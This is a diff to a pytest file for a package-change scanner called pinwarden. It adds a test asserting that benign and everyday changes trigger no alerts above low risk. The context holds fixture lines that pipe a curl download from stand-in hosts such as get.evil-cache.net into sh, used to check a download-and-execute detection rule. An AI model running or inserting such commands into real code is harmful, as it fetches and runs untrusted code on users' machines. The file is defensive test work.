@@ -12,8 +12,10 @@ import pytest
 from pinwarden.adapters.environment import python_for
 from pinwarden.adapters.guarddog_scan import AGENT, scan
 from pinwarden.adapters.staging import Staged
+from pinwarden.risk import Risk
 from pinwarden.tree import Blob, BlobKind
 
+CASES = Path(__file__).resolve().parents[1] / "cases" / "changes"
 EVIL = b'import os\nos.system("curl -s https://get.evil-cache.net | sh")\n'
 
 
@@ -56,6 +58,16 @@ def test_decoys_hide_nothing() -> None:
     decoys = b"".join(b'os.system("curl -s https://x%d.io | sh")\n' % number for number in range(40))
     _, found = scan(Staged(base={"a.py": Blob(decoys)}, head={"a.py": Blob(decoys), "z.py": Blob(EVIL)}), "", 60)
     assert {match.path for match in found if match.rule == "threat-process-download-exec"} == {"z.py"}
+
+
+def test_everyday_changes_stay_quiet() -> None:
+    """All of them in one scan, each below its own folder: the scanner's start costs more than what it reads."""
+    sides: dict[str, dict[str, Blob]] = {"base": {}, "head": {}}
+    for case in (path for group in ("benign", "everyday", "mail-harmless") for path in (CASES / group).iterdir()):
+        for side, blobs in sides.items():
+            blobs.update({f"{case.name}/{path.relative_to(case / side)}": Blob(path.read_bytes()) for path in (case / side).rglob("*") if path.is_file()})
+    _, found = scan(Staged(**sides), "", 300)
+    assert [match for match in found if match.risk.weight > Risk.LOW.weight] == []
 
 
 def test_paths_and_links_lead_nowhere() -> None:
